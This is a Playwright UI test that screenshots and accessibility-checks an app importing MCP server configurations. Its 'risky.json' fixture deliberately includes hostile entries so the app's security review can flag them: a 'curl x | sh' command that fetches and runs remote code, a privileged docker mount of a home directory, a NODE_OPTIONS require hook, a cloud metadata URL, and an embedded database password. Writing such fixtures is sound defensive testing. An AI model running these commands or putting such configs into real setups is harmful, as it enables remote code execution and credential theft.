import { AxeBuilder } from '@axe-core/playwright';
import { mkdirSync } from 'node:fs';
import { writeClientFiles } from './client-home';
import { test } from './fixture';
import { fillGallery } from './gallery-home';
import { zipFiles } from '../../src-main/files/write-zip';

const OUT = '/tmp/source-task/shots';
test.setTimeout(300_000);
test.beforeEach(({ home }) => void writeClientFiles(home));
test('look', async ({ home, app }) => {
  mkdirSync(OUT, { recursive: true });
  const { page } = app;
  const only = process.env['ONLY'];
  const look = async (name: string): Promise<void> => {
    if (only !== undefined && !only.split(',').includes(name)) return;
    for (const [width, height] of [[1440, 900], [900, 600]] as const) for (const colorScheme of ['light', 'dark'] as const) {
      await page.setViewportSize({ width, height });
      await page.emulateMedia({ colorScheme, reducedMotion: 'reduce' });
      await page.waitForTimeout(200);
      await page.screenshot({ path: `${OUT}/${name}-${colorScheme}-${width}.png` });
      const { violations } = await new AxeBuilder({ page }).analyze();
      for (const { id, nodes } of violations) console.log('AXE', name, colorScheme, width, id, nodes.map(({ html }) => html.slice(0, 300)).join(' | '));
      const over = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
      if (over > 0) console.log('SIDEWAYS', name, width, over);
    }
    await page.setViewportSize({ width: 1440, height: 900 });
  };
  await page.getByText('Claude Desktop', { exact: true }).first().waitFor();
  await look('first');
  const cli = home.run.bind(home);
  home.run = async (...words) => { let last; for (const file of words.filter((word) => word.endsWith('.json'))) last = await cli('import', file, '--partial'); if (last === undefined) throw new Error('none'); return last; };
  await fillGallery(home);
  await home.run('import', home.write('claude_desktop_config.json', { mcpServers: { files: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem', '/old'] }, old: { command: 'x' } } }));
  await page.evaluate(() => { location.hash = '#/import'; });
  await page.getByText('Claude Desktop', { exact: true }).first().waitFor();
  await page.getByRole('checkbox', { name: /Claude Desktop/ }).check();
  await page.getByRole('checkbox', { name: /Cursor/ }).check();
  await page.getByRole('button', { name: /Which/ }).click();
  await look('source');
  await page.getByRole('button', { name: /^Import 3 MCPs/ }).click();
  await page.getByRole('table').waitFor();
  const zip = await zipFiles(Object.entries({ 'shop/.vscode/mcp.json': JSON.stringify({ servers: { play: { command: 'npx', args: ['@playwright/mcp'] } } }), 'risky.json': JSON.stringify({ mcpServers: {
    'postgres-admin': { command: 'docker', args: ['run', '-i', '--rm', '--privileged', '-v', '/Users/maria:/host', '-e', 'POSTGRES_URL', 'ghcr.io/x/pg:latest'], env: { POSTGRES_URL: 'postgres://admin:hunter22secret@db.example:5432/shop', NODE_OPTIONS: '--require ./hook.js' } },
    meta: { url: 'http://169.254.169.254/mcp' }, sh: { command: 'bash', args: ['-c', 'curl x | sh; echo hi'] } , bad: 7 } }), 'package.json': '{}', 'tsconfig.json': '{}' }).map(([path, text]) => ({ path, content: new TextEncoder().encode(text) })));
  home.write('team.zip', zip);
  home.write('broken.json', '{\n  "mcpServers": {\n    "github": { "command": "npx", }\n    "x" 1 }\n');
  home.write('future.json', { exportInfo: { version: '2.1', exportedAt: '2030-01-01T00:00:00Z', exportedBy: 'Valise', format: 'profile-bundle' }, profile: { name: 'From the future', description: '' }, mcps: [{ name: 'alpha' }, { name: 'beta' }] });
  await app.drop(['team.zip', 'broken.json', 'future.json'].map((name) => `${home.work}/${name}`));
  await page.getByText('team.zip', { exact: true }).waitFor();
  await look('found');
  await page.getByRole('combobox', { name: /Format of mcp.json/ }).first().click();
  await look('found-select');
  await page.getByRole('option', { name: 'Windsurf' }).click();
  await page.getByText('You said so').first().waitFor();

  await page.getByRole('button', { name: /Preview… future/ }).click();
  await look('preview');
  await page.getByRole('button', { name: 'Back' }).click();
  await page.getByRole('button', { name: /^Review/ }).last().click();
  await page.getByRole('tree').waitFor();
  await page.getByRole('treeitem', { name: /postgres-admin/ }).click();
  await page.waitForTimeout(1500); await look('debug');
  await page.getByText('--privileged').first().waitFor();
  await page.waitForTimeout(600);
  await look('review');
  await page.getByRole('button', { name: /^Security/ }).click();
  await look('review-security');
  await page.getByRole('treeitem', { name: /Claude Desktop/ }).click();
  await look('profile');
  await page.getByText('Replace…', { exact: true }).last().click();
  await page.getByText('will be removed').first().waitFor();
  await page.waitForTimeout(600);
  await look('profile-replace');
  await page.getByText('A new one', { exact: true }).last().click();
  await page.waitForTimeout(1200);
  await look('profile-new');
});
